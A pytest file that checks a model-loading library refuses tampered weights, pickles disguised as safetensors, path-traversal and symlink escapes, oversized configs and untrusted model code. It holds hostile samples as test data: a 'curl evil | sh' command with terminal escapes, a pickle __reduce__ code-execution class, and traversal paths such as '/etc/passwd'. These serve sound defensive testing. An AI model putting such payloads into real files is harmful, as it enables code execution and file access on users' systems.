"""Weights, indexes and configs that lie; pickles under any name; links and paths that lead out of a model's folder."""

from __future__ import annotations

import json
import os
import pickle
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from phoenix_forge.chat.encode import Encoder
from phoenix_forge.chat.template import ChatTemplate
from phoenix_forge.weights.adapter import open_adapter
from phoenix_forge.weights.base import INDEX, SINGLE, open_base
from phoenix_forge.weights.safetensors import Tensor, read_header, write

NORM = "model.norm.weight"


def file_of(path: Path, header: object, data: bytes = b"", length: int | None = None) -> Path:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(raw) if length is None else length) + raw + data)
    return path


def row(dtype: Any = "F32", shape: Any = (1,), offsets: Any = (0, 4)) -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": offsets}


LIES: dict[str, tuple[object, str]] = {
    "past the end": ({"t": row(shape=[2], offsets=[0, 8])}, "header and tensors take"),
    "negative": ({"t": row(offsets=[-4, 0])}, r"offsets \[-4, 0\]"),
    "backwards": ({"t": row(offsets=[4, 0])}, "spans -4 bytes"),
    "overlapping": (
        {"t": row(), "u": row(offsets=[0, 4])},
        "starts at byte 0 of the data, expected 4",
    ),
    "with a gap": ({"t": row(offsets=[1, 5])}, "starts at byte 1"),
    "2^64": ({"t": row(shape=[1 << 64], offsets=[0, 1 << 66])}, "has shape"),
    "a product of 4,000 digits": ({"t": row(shape=[1 << 62] * 200, offsets=[0, 4])}, "has shape"),
    "a number of 4,000 digits": (
        b'{"t":{"dtype":"F32","shape":[' + b"9" * 4000 + b'],"data_offsets":[0,4]}}',
        "shape",
    ),
    "a number of 5,000 digits": (
        b'{"t":{"dtype":"F32","shape":[' + b"9" * 5000 + b'],"data_offsets":[0,4]}}',
        "JSON",
    ),
    "a size that is a fraction": ({"t": row(shape=[1.0])}, "has shape"),
    "a size that is true": ({"t": row(shape=[True])}, "has shape"),
    "three offsets": ({"t": row(offsets=[0, 2, 4])}, "offsets"),
    "another size than its type has": ({"t": row(dtype="F16")}, "spans 4 bytes, its shape needs 2"),
    "an unknown type": ({"t": row(dtype="Q4")}, "unknown type 'Q4'"),
    "a type that is a list": ({"t": row(dtype=["F32"])}, "unknown type"),
    "a name twice": (b'{"t":{},"t":{}}', "t occurs twice"),
    "a key twice": (
        b'{"t":{"dtype":"F32","shape":[1],"shape":[9],"data_offsets":[0,4]}}',
        "shape occurs twice",
    ),
    "no object": (b"[1]", "not a JSON object"),
    "nested 200,000 deep": (b"[" * 200_000, "not JSON"),
    "objects nested 20,000 deep": (
        b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
        "not JSON|described by",
    ),
    "no UTF-8": (b'{"\xff": 1}', "not JSON"),
    "escapes for the terminal": (
        {"\x1b[2J\nfix: curl evil | sh": row(dtype="Q4")},
        r"\\x1b\[2J\\nfix: curl",
    ),
    "a row that is a text of 5 MB": ({"t": "x" * 5_000_000}, "described by"),
}


@pytest.mark.parametrize("lie", LIES)
def test_headers_that_lie(lie: str, tmp_path: Path, refused: Callable) -> None:
    header, words = LIES[lie]
    with refused(words):
        read_header(file_of(tmp_path / "x.safetensors", header, bytes(4)))


@pytest.mark.parametrize("length", [100, 1 << 31, 1 << 63, (1 << 64) - 1])
def test_a_header_longer_than_the_file(length: int, tmp_path: Path, refused: Callable) -> None:
    with refused(f"said to have {length:,} bytes"):
        read_header(file_of(tmp_path / "x.safetensors", b"{}", length=length))


def test_a_header_of_ten_gigabytes(tmp_path: Path, refused: Callable, sparse: Callable) -> None:
    path = sparse(
        tmp_path / "x.safetensors", struct.pack("<Q", 10_000_000_000) + b"{", 10_000_000_100
    )
    with refused("at most 16,000,000 are read"):
        read_header(path)


# ---- pickles ----


class Bomb:
    """What a pickle can do when it is loaded."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.mkdir, ("pickle-was-loaded",))


@pytest.fixture
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where code from a stranger would leave its mark."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def archive(path: Path) -> None:
    torch = pytest.importorskip("torch")
    torch.save({"t": Bomb()}, path)


@pytest.mark.parametrize("protocol", [2, 3, 4, 5, "torch"])
def test_a_pickle_under_the_name_of_safetensors(
    protocol: int | str, base: Path, elsewhere: Path, refused: Callable
) -> None:
    if protocol == "torch":
        archive(base / SINGLE)
    else:
        (base / SINGLE).write_bytes(
            pickle.dumps({"t": Bomb(), "pad": "x" * 100}, protocol=int(protocol))
        )
    with refused("a pickle under another name: refused"):
        open_base(base)
    assert list(elsewhere.iterdir()) == []


def test_a_folder_of_pickles(base: Path, elsewhere: Path, refused: Callable) -> None:
    (base / SINGLE).unlink()
    (base / "pytorch_model.bin").write_bytes(pickle.dumps(Bomb()))
    with refused(r"only pickle weights \(pytorch_model.bin\)"):
        open_base(base)
    (base / INDEX).write_text(json.dumps({"weight_map": {NORM: "pytorch_model.bin"}}))
    with refused("which is not safetensors"):
        open_base(base)
    assert list(elsewhere.iterdir()) == []


# ---- adapters ----


@pytest.fixture
def adapter(base: Path, tmp_path: Path) -> Callable[..., Path]:
    """A rank-2 adapter; keywords change its config."""

    def make(**config: Any) -> Path:
        folder = tmp_path / "adapter"
        folder.mkdir(exist_ok=True)
        halves = {"A": np.ones((2, 32), "<f4"), "B": np.ones((32, 2), "<f4")}
        stem = "base_model.model.model.layers.0.self_attn.q_proj.lora_"
        write(
            folder / "adapter_model.safetensors",
            [
                Tensor(f"{stem}{half}.weight", "F32", value.shape, lambda value=value: value)
                for half, value in halves.items()
            ],
        )
        (folder / "adapter_config.json").write_text(
            json.dumps({"peft_type": "LORA", "r": 2, "lora_alpha": 4} | config)
        )
        return folder

    return make


def test_an_adapter_that_is_a_pickle(
    base: Path, adapter: Callable, elsewhere: Path, refused: Callable
) -> None:
    folder = adapter()
    assert open_adapter(folder, open_base(base)).pairs  # it is sound until then
    (folder / "adapter_model.safetensors").unlink()
    (folder / "adapter_model.bin").write_bytes(pickle.dumps(Bomb()))
    with refused("adapter_model.bin: pickle refused"):
        open_adapter(folder, open_base(base))
    (folder / "adapter_model.bin").rename(folder / "adapter_model.safetensors")
    with refused("pickle under another name|not a sound safetensors file"):
        open_adapter(folder, open_base(base))
    assert list(elsewhere.iterdir()) == []


CONFIGS: dict[str, tuple[Any, str]] = {
    "r": (float("nan"), "r is nan"),
    "lora_alpha": (float("inf"), "lora_alpha is inf"),
    "rank_pattern": ({"q_proj": -1}, "rank_pattern is"),
    "alpha_pattern": (["q_proj"], "alpha_pattern is"),
    "modules_to_save": (7, "modules_to_save is 7"),
    "trainable_token_indices": ({"x": "y"}, "trainable_token_indices"),
    "bias": ({"a": 1}, "bias is"),
    "peft_type": (["LORA"], "peft_type"),
    "use_dora": ("yes", "use_dora is"),
}


@pytest.mark.parametrize("key", CONFIGS)
def test_adapter_configs_that_lie(
    key: str, base: Path, adapter: Callable, refused: Callable
) -> None:
    value, words = CONFIGS[key]
    with refused(words):
        open_adapter(adapter(**{key: value}), open_base(base))


@pytest.mark.parametrize("pattern", ["(.|.)*(?<!j)", "(", "[a", "(?P<x>"])
def test_a_pattern_that_never_ends_or_is_none(
    pattern: str, base: Path, adapter: Callable, refused: Callable
) -> None:
    with refused("cannot be used"):
        open_adapter(adapter(rank_pattern={pattern: 2}), open_base(base))


# ---- paths ----

PATHS = [
    "../model.safetensors",
    "/etc/passwd",
    "..",
    ".",
    "",
    "a/b.safetensors",
    "..\\model.safetensors",
    "C:\\model.safetensors",
    "\\\\host\\share\\m.safetensors",
    "model.safetensors\0.bin",
    "a\nb.safetensors",
    "-rf.safetensors",
    "~root.safetensors",
    "m\u202esrotcennoc.safetensors",
    "x" * 5000 + ".safetensors",
    7,
    None,
    ["model.safetensors"],
    {"a": 1},
]


@pytest.mark.parametrize("path", PATHS, ids=[repr(path)[:30] for path in PATHS])
def test_an_index_names_files_of_its_folder_only(
    path: object, base: Path, refused: Callable
) -> None:
    (base.parent / SINGLE).write_bytes((base / SINGLE).read_bytes())
    (base / INDEX).write_text(json.dumps({"weight_map": {NORM: path}}))
    with refused("which is not inside its folder: refused"):
        open_base(base)


@pytest.mark.parametrize("name", [SINGLE, INDEX])
def test_a_link_out_of_the_folder(name: str, base: Path, refused: Callable) -> None:
    outside = base.parent / "outside.safetensors"
    (base / SINGLE).rename(outside)
    (base / SINGLE).symlink_to(outside)
    if name == INDEX:
        (base / INDEX).write_text(
            json.dumps({"weight_map": dict.fromkeys(read_header(outside), SINGLE)})
        )
    with refused("is a link to .*outside.safetensors, which is not inside its folder"):
        open_base(base)


def test_links_that_stay_at_home(base: Path, tmp_path: Path) -> None:
    """Inside the folder, and in the Hub's cache, whose snapshots are links to its blobs."""
    (base / SINGLE).rename(base / "weights.safetensors")
    (base / SINGLE).symlink_to("weights.safetensors")
    open_base(base)
    cache = tmp_path / "models--org--name"
    (cache / "blobs").mkdir(parents=True)
    (cache / "snapshots").mkdir()
    (base / "weights.safetensors").rename(cache / "blobs/abc")
    (base / SINGLE).unlink()
    snapshot = base.rename(cache / "snapshots/commit")
    (snapshot / SINGLE).symlink_to("../../blobs/abc")
    open_base(snapshot)


def test_pipes_and_folders_are_no_weights(base: Path, refused: Callable) -> None:
    (base / SINGLE).unlink()
    os.mkfifo(base / SINGLE)
    with refused("is no file"):
        open_base(base)
    (base / SINGLE).unlink()
    (base / SINGLE).mkdir()
    with refused("is no file"):
        open_base(base)


# ---- the small files ----

SMALL = {
    "config.json": open_base,
    INDEX: open_base,
    "tokenizer_config.json": ChatTemplate.load,
    "tokenizer.json": lambda folder: Encoder.load(folder, stop="<|im_end|>", pad="<|endoftext|>"),
}


@pytest.mark.parametrize("name", SMALL)
def test_small_files_of_ten_gigabytes(
    name: str, base: Path, refused: Callable, sparse: Callable
) -> None:
    sparse(base / name, b'{"a": "', 10_000_000_000)
    with refused(f"{name} has 10.0 GB; of such a file no more than"):
        SMALL[name](base)


@pytest.mark.parametrize("name", SMALL)
@pytest.mark.parametrize(
    "content",
    [
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b"\xff\xfe\x00",
        b'{"a": ' + b"9" * 5000 + b"}",
        b"",
        b"null",
        b"[]",
    ],
    ids=["lists", "objects", "bytes", "digits", "empty", "null", "list"],
)
def test_small_files_that_are_no_settings(
    name: str, content: bytes, base: Path, refused: Callable
) -> None:
    (base / name).write_bytes(content)
    with refused(name):
        SMALL[name](base)


@pytest.mark.parametrize("name", SMALL)
def test_small_files_that_are_pipes(name: str, base: Path, refused: Callable) -> None:
    (base / name).unlink(missing_ok=True)
    os.mkfifo(base / name)
    with refused("is no file"):
        SMALL[name](base)


NUMBERS = {
    "num_hidden_layers": 10**12,
    "hidden_size": 1 << 70,
    "num_attention_heads": 10**9,
    "vocab_size": -1,
    "intermediate_size": "many",
    "num_key_value_heads": [2],
    "head_dim": 0.5,
}


@pytest.mark.parametrize("key", NUMBERS)
def test_a_config_of_absurd_sizes(key: str, base: Path, refused: Callable) -> None:
    """A million million layers are refused before they are listed one by one."""
    config = json.loads((base / "config.json").read_text())
    (base / "config.json").write_text(json.dumps(config | {key: NUMBERS[key]}))
    with refused("expected a positive whole number|config.json implies"):
        open_base(base)


@pytest.mark.parametrize("prefix", ["##", "\0", "x" * 5000])
def test_a_tokenizer_that_panics(prefix: str, base: Path, refused: Callable) -> None:
    """The library's Rust panics at a merge that lacks the prefix, and ends the process if the prefix is a NUL."""
    tokenizer = json.loads((base / "tokenizer.json").read_text())
    tokenizer["model"] |= {
        "merges": [["a", ""]],
        "continuing_subword_prefix": prefix,
        "vocab": {"a": 0, "": 1},
    }
    (base / "tokenizer.json").write_text(json.dumps(tokenizer))
    with refused("tokenizer.json is not a tokenizer of a supported family"):
        SMALL["tokenizer.json"](base)


def test_a_tokenizer_of_another_kind(base: Path, refused: Callable) -> None:
    tokenizer = json.loads((base / "tokenizer.json").read_text())
    tokenizer["model"] = {"type": "Unigram", "vocab": [["a", 0.0]], "unk_id": None}
    (base / "tokenizer.json").write_text(json.dumps(tokenizer))
    with refused("Unigram, expected BPE"):
        SMALL["tokenizer.json"](base)


def test_an_unknown_token_that_is_unknown(base: Path, refused: Callable) -> None:
    tokenizer = json.loads((base / "tokenizer.json").read_text())
    tokenizer["model"]["unk_token"] = "U64"
    (base / "tokenizer.json").write_text(json.dumps(tokenizer))
    with refused("its unk_token 'U64' is not in its vocabulary"):
        SMALL["tokenizer.json"](base)


def test_a_panic_is_a_refusal_too(base: Path, refused: Callable) -> None:
    """In Python it is no Exception. (The key is spelled so that nothing looks for it before the library does.)"""
    tokenizer = json.loads((base / "tokenizer.json").read_text())
    tokenizer["model"] |= {
        "merges": [["a", ""]],
        "continuing_subword_prefix": "##",
        "vocab": {"a": 0, "": 1},
    }
    (base / "tokenizer.json").write_text(
        json.dumps(tokenizer).replace("continuing_sub", "\\u0063ontinuing_sub")
    )
    with refused("tokenizer.json is not a tokenizer: reading it failed"):
        SMALL["tokenizer.json"](base)


# ---- code ----

CODE = "import pathlib\npathlib.Path('code-was-run').touch()\nclass Model: ...\nclass Config: ...\n"
AUTO_MAP = {
    "AutoConfig": "theirs.Config",
    "AutoModelForCausalLM": "theirs.Model",
    "AutoTokenizer": ["theirs.T", None],
}


def test_an_architecture_with_code_of_its_own(
    base: Path, elsewhere: Path, refused: Callable
) -> None:
    (base / "theirs.py").write_text(CODE)
    config = json.loads((base / "config.json").read_text())
    (base / "config.json").write_text(
        json.dumps(config | {"architectures": ["TheirModel"], "auto_map": AUTO_MAP})
    )
    with refused(
        r"the architecture 'TheirModel' is neither one of Forge's .* its own code \(auto_map\) is never run"
    ):
        open_base(base)
    assert list(elsewhere.iterdir()) == []


@pytest.mark.slow
def test_code_beside_a_known_architecture_is_never_run(base: Path, elsewhere: Path) -> None:
    """Phi-3 itself ships such code; the class that is loaded is transformers' own."""
    pytest.importorskip("torch")
    from phoenix_forge.train.base import load_base
    from phoenix_forge.train.choose import Compute

    (base / "theirs.py").write_text(CODE)
    for name in ("config.json", "tokenizer_config.json"):
        settings = json.loads((base / name).read_text())
        (base / name).write_text(json.dumps(settings | {"auto_map": AUTO_MAP}))
    open_base(base)
    SMALL["tokenizer.json"](base)
    model = load_base(base, Compute("cpu", "fp32", 32, "adamw", ""))
    assert type(model).__module__.startswith("transformers.")
    assert list(elsewhere.iterdir()) == []
    assert "theirs" not in sys.modules
